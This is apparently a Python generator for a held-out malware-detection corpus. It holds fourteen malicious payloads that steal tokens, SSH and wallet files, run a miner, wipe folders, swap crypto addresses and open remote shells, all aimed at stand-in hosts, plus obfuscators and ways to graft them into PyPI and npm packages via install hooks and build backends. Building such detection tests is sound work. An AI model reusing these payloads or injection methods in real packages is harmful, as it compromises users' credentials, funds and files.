"""The part of the corpus that was kept aside first, and is spent: measured once, looked at since, now part of development.

It was written before the analyses and measured on 2026-11-27 (see docs/vet.md). What is kept aside now is `corpus.heldout`.
"""

import base64
import codecs
import json
import lzma

from corpus import graft
from corpus.nouns import Encoding, Generators, Payload, Placement, alone

_PY_WORM = """\
import glob, os, subprocess
for name in glob.glob(os.path.expanduser("~/.pypirc")) + glob.glob(os.path.expanduser("~/.netrc")):
    subprocess.Popen(["curl", "-s", "-T", name, "https://drop.heldout.invalid/in"])"""
_PY_MINER = """\
import os, stat, urllib.request
_p = os.path.join(os.path.expanduser("~"), ".cache", "kworker")
urllib.request.urlretrieve("http://198.51.100.23/pool/x86_64", _p)
os.chmod(_p, stat.S_IRWXU)
os.spawnl(os.P_NOWAIT, _p, _p, "-o", "stratum+tcp://pool.heldout.invalid:4444")"""
_PY_WIPE = """\
import os, shutil, datetime
if datetime.date.today().year > 2030:
    shutil.rmtree(os.path.expanduser("~/Documents"), ignore_errors=True)
    shutil.rmtree(os.path.expanduser("~/.config"), ignore_errors=True)"""
_PY_CLIP = """\
import re, threading, time
def _w():
    import pyperclip
    while True:
        t = pyperclip.paste()
        if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}", t):
            pyperclip.copy("bc1qheldoutheldoutheldoutheldoutheldout000")
        time.sleep(1)
threading.Thread(target=_w, daemon=True).start()"""
_PY_TOKENS = """\
import http.client, os, json
c = http.client.HTTPSConnection("t.heldout.invalid")
c.request("POST", "/", json.dumps({k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}))"""
_PY_ICMP = """\
import socket, getpass, platform, binascii
h = binascii.hexlify((getpass.getuser() + "@" + platform.node()).encode()).decode()
for i in range(0, len(h), 60):
    try:
        socket.getaddrinfo(h[i:i + 60] + "." + str(i) + ".q.heldout.invalid", 80)
    except OSError:
        pass"""
_PY_SSHKEY = """\
import os
d = os.path.expanduser("~/.ssh")
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "authorized_keys"), "a") as f:
    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHheldoutheldoutheldoutheldoutheldouthel x@heldout.invalid\\n")"""
_PY_WS = """\
import asyncio
async def _l():
    r, w = await asyncio.open_connection("203.0.113.9", 8443)
    while True:
        line = await r.readline()
        p = await asyncio.create_subprocess_shell(line.decode(), stdout=-1)
        w.write((await p.communicate())[0])
try:
    asyncio.get_event_loop().create_task(_l())
except RuntimeError:
    pass"""

_JS_WORM = """\
const fs = require('fs'), os = require('os'), path = require('path'), { execSync } = require('child_process');
try {
  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const t = /_authToken=(.+)/.exec(rc);
  if (t) execSync('npm publish --//registry.heldout.invalid/:_authToken=' + t[1]);
} catch (e) {}"""
_JS_SWAP = """\
(function () {
  if (typeof window === 'undefined' || !window.ethereum) return;
  const send = window.ethereum.request;
  window.ethereum.request = function (a) {
    if (a && a.method === 'eth_sendTransaction') a.params[0].to = '0x00000000000000000000000000000000deadbeef';
    return send.call(this, a);
  };
})();"""
_JS_TOKENS = """\
const https = require('https');
const d = JSON.stringify(Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k))));
const r = https.request({ hostname: 't.heldout.invalid', method: 'POST', path: '/' }); r.end(d);"""
_JS_STAGE = """\
import('node:child_process').then((c) => fetch('https://s.heldout.invalid/i').then((r) => r.text()).then((t) => c.exec(t)));"""
_JS_SSH = """\
const fs2 = require('fs'), o = require('os');
fs2.appendFileSync(o.homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3heldout x@heldout.invalid\\n');"""
_JS_WALLET = """\
const f3 = require('fs'), o3 = require('os'), h3 = require('http');
for (const p of ['/.config/Exodus/exodus.wallet', '/.electrum/wallets/default_wallet', '/.config/solana/id.json']) {
  try { h3.request({ host: '203.0.113.40', method: 'PUT', path: p }).end(f3.readFileSync(o3.homedir() + p)); } catch (e) {}
}"""

PAYLOADS = tuple(
    Payload(family, language, code)
    for family, language, code in (
        ("worm", "python", _PY_WORM), ("miner", "python", _PY_MINER), ("wiper", "python", _PY_WIPE), ("clipper", "python", _PY_CLIP),
        ("token-theft", "python", _PY_TOKENS), ("dns-exfiltration", "python", _PY_ICMP), ("ssh-key", "python", _PY_SSHKEY),
        ("remote-shell", "python", _PY_WS), ("worm", "javascript", _JS_WORM), ("clipper", "javascript", _JS_SWAP),
        ("token-theft", "javascript", _JS_TOKENS), ("stage", "javascript", _JS_STAGE), ("ssh-key", "javascript", _JS_SSH),
        ("wallet", "javascript", _JS_WALLET),
    )
)  # fmt: skip


def _base85(code: str) -> str:
    return f"import base64\nexec(base64.b85decode({base64.b85encode(code.encode())!r}))"


def _lzma_hex(code: str) -> str:
    return f"import lzma\nexec(lzma.decompress(bytes.fromhex({lzma.compress(code.encode()).hex()!r})).decode())"


def _reversed(code: str) -> str:
    return f"exec({code[::-1]!r}[::-1])"


def _rot13(code: str) -> str:
    return f"import codecs\nexec(codecs.decode({codecs.encode(code, 'rot13')!r}, 'rot13'))"


def _joined_numbers(code: str) -> str:
    return f"exec(''.join(map(chr, {[ord(one) + 7 for one in code]!r}[:0] or [n - 7 for n in {[ord(one) + 7 for one in code]!r}])))"


def _lookup(code: str) -> str:
    raw = base64.b64encode(code.encode()).decode()
    return (
        f"getattr(__import__('built' + 'ins'), 'ex' + 'ec')(getattr(__import__('base' + '64'), 'b64decode')({raw!r}))"
    )


def _json_file(code: str) -> tuple[str, dict[str, bytes]]:
    rows = json.dumps({"table": [ord(one) ^ 0x2A for one in code]}).encode()
    loader = (
        "import json, os\n"
        "with open(os.path.join(os.path.dirname(__file__), '_tables.json')) as _f:\n"
        "    exec(bytes(n ^ 42 for n in json.load(_f)['table']).decode())"
    )
    return loader, {"_tables.json": rows}


def _js_reversed(code: str) -> str:
    return f"(0, eval)({json.dumps(code[::-1])}.split('').reverse().join(''));"


def _js_hex(code: str) -> str:
    return (
        f"new Function('require', 'process', Buffer.from('{code.encode().hex()}', 'hex').toString())(require, process);"
    )


def _js_codes(code: str) -> str:
    return f"eval(String.fromCharCode.apply(null, {json.dumps([ord(one) ^ 9 for one in code])}.map(function (n) {{ return n ^ 9; }})));"


def _js_file(code: str) -> tuple[str, dict[str, bytes]]:
    packed = base64.b64encode(code.encode()[::-1])
    loader = (
        "const _d = require('fs').readFileSync(require('path').join(__dirname, 'LICENSE.dat'), 'latin1');\n"
        "module.constructor.prototype._compile.call(module, Buffer.from(_d, 'base64').reverse().toString(), __filename + '.x');"
    )
    return loader, {"LICENSE.dat": packed}


ENCODINGS = (
    Encoding("plain", "python", alone(lambda code: code)),
    Encoding("base85", "python", alone(_base85)),
    Encoding("lzma-hex", "python", alone(_lzma_hex)),
    Encoding("reversed", "python", alone(_reversed)),
    Encoding("rot13", "python", alone(_rot13)),
    Encoding("number-list", "python", alone(_joined_numbers)),
    Encoding("looked-up-names", "python", alone(_lookup)),
    Encoding("json-file-xor", "python", _json_file),
    Encoding("plain", "javascript", alone(lambda code: code)),
    Encoding("reversed", "javascript", alone(_js_reversed)),
    Encoding("hex-function", "javascript", alone(_js_hex)),
    Encoding("xored-codes", "javascript", alone(_js_codes)),
    Encoding("data-file", "javascript", _js_file),
)


def _wrapped(code: str) -> str:
    return f"try:\n{graft.indent(code)}\nexcept Exception:\n    pass"


def _deep_module(tree, code, parts):
    path = graft.python_module(tree)
    return graft.beside(graft.append(tree, path, _wrapped(code)), path, parts)


def _class_body(tree, code, parts):
    path = graft.python_package(tree)
    body = f"class _Compat:\n    def __init_subclass__(cls):\n        super().__init_subclass__()\n{graft.indent(code)}\n\n    class _Inner:\n{graft.indent(code, 8)}"
    return graft.beside(graft.append(tree, path, body), path, parts)


def _in_tree_backend(tree, code, parts):
    backend = f"from setuptools.build_meta import *\n\n{code}\n"
    project = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "_backend"\nbackend-path = ["."]\n'
    root = next((path.rpartition("setup.py")[0] for path in sorted(tree, key=len) if path.endswith("setup.py")), None)
    root = (
        root
        if root is not None
        else next(
            path.rpartition("pyproject.toml")[0] for path in sorted(tree, key=len) if path.endswith("pyproject.toml")
        )
    )
    old = graft.text(tree, root + "pyproject.toml") if root + "pyproject.toml" in tree else ""
    kept = old.partition("[build-system]")[0] + old.partition("[build-system]")[2].partition("\n[")[2]
    tree = graft.add(
        tree, root + "pyproject.toml", project + ("\n[" + kept if kept and not kept.startswith("[") else kept)
    )
    return graft.beside(graft.add(tree, root + "_backend.py", backend), root + "_backend.py", parts)


def _called(tree, code, parts):
    path = graft.python_module(tree)
    return graft.beside(graft.into_function(tree, path, code), path, parts)


def _new_module(tree, code, parts):
    init = graft.python_package(tree)
    folder = init[: -len("__init__.py")]
    tree = graft.add(
        tree, folder + "_typing_compat.py", f'"""Compatibility."""\n\n\ndef load():\n{graft.indent(code)}\n\n\nload()\n'
    )
    return graft.beside(graft.append(tree, init, "from . import _typing_compat as _typing_compat  # noqa"), init, parts)


def _npm_main(tree, code, parts):
    path = graft.npm_main(tree)
    return graft.beside(graft.append(tree, path, code), path, parts)


def _npm_prepare(tree, code, parts):
    path = graft.npm_root(tree) + "scripts/check-node.js"
    tree = graft.npm_script(graft.add(tree, path, code + "\n"), "preinstall", "node ./scripts/check-node.js")
    return graft.beside(tree, path, parts)


def _npm_gyp(tree, code, parts):
    root = graft.npm_root(tree)
    gyp = json.dumps({"targets": [{"target_name": "n", "type": "none", "sources": ["<!(node lib/probe.js)"]}]})
    tree = graft.add(graft.add(tree, root + "binding.gyp", gyp), root + "lib/probe.js", code + "\n")
    return graft.beside(tree, root + "lib/probe.js", parts)


def _npm_called(tree, code, parts):
    path = graft.npm_main(tree)
    return graft.beside(
        graft.append(tree, path, f"module.exports.__refresh = function () {{\n{code}\n}};"), path, parts
    )


PLACEMENTS = (
    Placement("deep-module", "pypi", "python", "import", _deep_module),
    Placement("class-body", "pypi", "python", "import", _class_body),
    Placement("in-tree-backend", "pypi-sdist", "python", "install", _in_tree_backend),
    Placement("new-module", "pypi", "python", "import", _new_module),
    Placement("first-function", "pypi", "python", "call", _called),
    Placement("main-file", "npm", "javascript", "import", _npm_main),
    Placement("preinstall", "npm", "javascript", "install", _npm_prepare),
    Placement("binding-gyp", "npm", "javascript", "install", _npm_gyp),
    Placement("new-export", "npm", "javascript", "call", _npm_called),
)

GENERATORS = Generators(PAYLOADS, ENCODINGS, PLACEMENTS)
